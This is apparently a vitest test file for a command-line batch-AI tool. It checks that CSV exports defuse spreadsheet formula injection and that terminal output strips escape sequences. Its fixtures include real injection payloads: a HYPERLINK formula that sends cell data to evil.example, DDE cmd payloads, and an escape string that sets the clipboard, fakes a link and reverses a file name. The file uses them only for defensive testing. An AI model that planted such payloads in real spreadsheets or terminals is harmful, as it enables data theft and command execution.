import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import * as fc from 'fast-check'
import { parse } from 'papaparse'
import { describe, expect, it } from 'vitest'
import { systemDisk } from '../../src/lib/disk.ts'
import { USUAL_COLUMNS } from '../../src/output/columns.ts'
import { writeAnswers } from '../../src/output/write-answers.ts'
import { type Ended, type, typeHere } from '../support/command.ts'
import { MODELS } from '../support/fault-run.ts'
import { RawClient, requestLine } from '../support/local-server.ts'
import { openWorld } from '../support/local-world.ts'
import { samplePlan, sampleResult, sampleRow, untyped } from '../support/row-outcomes.ts'

const GOLDEN = fileURLToPath(new URL('../fixtures/export/excel-safe.csv', import.meta.url))

/** What a spreadsheet takes for the beginning of a formula; a plain number is none. */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/
const NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/

/** The CSV of one-column rows with these answers. */
async function exported(rows: readonly (readonly [input: string, output: string])[]): Promise<string> {
  let text = ''
  async function* outcomes() {
    yield rows.map(([input, output], ordinal) =>
      sampleRow(ordinal, { json: JSON.stringify({ text: input }), result: sampleResult({ output }) }),
    )
  }
  await writeAnswers({
    rows: outcomes(),
    columns: untyped('text'),
    plan: samplePlan('-', { format: 'csv', excelSafe: true }),
    costOf: () => null,
    disk: systemDisk,
    sink: {
      async write(piece) {
        text += piece
      },
    },
  })
  return text
}

describe('CSV for spreadsheets', () => {
  it('is byte for byte what was looked at once by a person', async () => {
    const attacks = [
      `=HYPERLINK("http://evil.example/?"&A1,"click")`,
      `=cmd|' /C calc'!A0`,
      '@SUM(1+1)*cmd|dir',
      '+1+1',
      '-2+3',
      '\t=1',
      '\r=1',
      '-12.5',
      '"=1"',
      'fine, "quoted"\nand long',
    ]
    const text = await exported(attacks.map((output) => ['=A1', output]))
    await expect(text).toMatchFileSnapshot(GOLDEN)
    // The user's own column is the user's own business.
    const { data } = parse<string[]>(text.trimEnd(), { delimiter: ',' })
    expect(data.slice(1).map(([own]) => own)).toEqual(attacks.map(() => '=A1'))
  })

  it('has no cell from outside that runs, whatever the model wrote, and changes nothing else', async () => {
    const output = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({
        unit: fc.constantFrom(
          '=',
          '+',
          '-',
          '@',
          '＝',
          '＋',
          '－',
          '＠',
          '\t',
          '\r',
          '\n',
          '"',
          ',',
          "'",
          '1',
          'e',
          '.',
        ),
      }),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(output, { minLength: 1, maxLength: 5 }), async (outputs) => {
        const text = await exported(outputs.map((written) => ['own', written]))
        const { data } = parse<string[]>(text, { delimiter: ',', newline: '\n' })
        const at = 1 + USUAL_COLUMNS.indexOf('output')
        const cells = data.slice(1, -1).map((cellsOfRow) => cellsOfRow[at] ?? '')
        expect(cells.filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell))).toEqual([])
        const restored = cells.map((cell, row) => (cell === `'${outputs[row]}` ? cell.slice(1) : cell))
        expect(restored).toEqual(outputs)
      }),
    )
  })
})

/** Sets the clipboard, a link that shows one address and leads to another, a new title, and text that runs backwards. */
const HOSTILE =
  '\u001b]52;c;aGFja2Vk\u0007\u001b]8;;http://evil.example\u0007here\u001b]8;;\u0007\u001b[2J\u202egnp.exe'

function expectHarmless(...shown: readonly Ended[]): void {
  for (const { stderr, stdout } of shown) {
    // oxlint-disable-next-line no-control-regex -- these are what must not be there
    expect(stdout + stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
    expect(stdout + stderr).not.toMatch(/52;c|evil\.example/)
  }
}

describe('the terminal', () => {
  it('is sent no control sequence that a provider put into a status or a file name', async () => {
    const world = await openWorld({ faults: [`get:1-2=batch-status(${HOSTILE})`, `list=batch-status(${HOSTILE})`] })
    await world.write('rows.jsonl', '{"text":"one"}\n{"text":"two"}\n')
    const client = new RawClient(world.server.openaiUrl, world.environment['OPENAI_API_KEY'])
    await client.create(await client.upload(requestLine('theirs', 'theirs'), `${HOSTILE}.jsonl`))
    const run = await type(
      world,
      'run',
      'rows.jsonl',
      '--model',
      MODELS.openai,
      '--prompt',
      '{{text}}',
      '-o',
      'out.jsonl',
    )
    expect(run.code).toBe(0)
    expect(run.stderr).toMatch(/unknown status/)
    const remote = await type(world, 'remote', '--provider', 'openai')
    expect(remote.stdout).toMatch(/here.*foreign|foreign.*here/s)
    expectHarmless(run, remote, await typeHere(world, 'status'), await typeHere(world, 'runs'))
  })

  it('is sent none that stands in a name, a path, a column or a row of the input', async () => {
    const world = await openWorld()
    await world.write(
      'rows.jsonl',
      `{"text":"one"}\n{"te${HOSTILE.replaceAll('\u001b', '\\u001b').replaceAll('\u0007', '\\u0007')}xt":1}\n`,
    )
    const words = ['--model', MODELS.openai, '--prompt', `{{${HOSTILE}}}`, '-o', 'out.jsonl']
    const bad = await typeHere(world, 'run', 'rows.jsonl', ...words)
    expect(bad.code).toBe(2)
    await world.write('fine.jsonl', '{"text":"one"}\n')
    const fine = [
      'run',
      'fine.jsonl',
      '--model',
      MODELS.openai,
      '--prompt',
      '{{text}}',
      '-o',
      'out.jsonl',
      '--name',
      HOSTILE,
    ]
    const run = await type(world, ...fine)
    expect(run.code).toBe(0)
    expectHarmless(
      bad,
      run,
      await typeHere(world, 'status'),
      await typeHere(world, 'runs'),
      await typeHere(world, 'status', HOSTILE),
    )
  })

  it('may be sent what a model wrote only as data, by a pipe or a file', async () => {
    const world = await openWorld()
    await world.write('rows.jsonl', '{"text":"one nonce:a"}\n')
    const { code, stderr } = await type(
      world,
      'run',
      'rows.jsonl',
      '--model',
      MODELS.openai,
      '--prompt',
      '{{text}}',
      '-o',
      'out.jsonl',
    )
    expect(code).toBe(0)
    expect(stderr).not.toContain('nonce:a')
    expect(await readFile(join(world.folder, 'out.jsonl'), 'utf8')).toContain('nonce:a')
  })
})
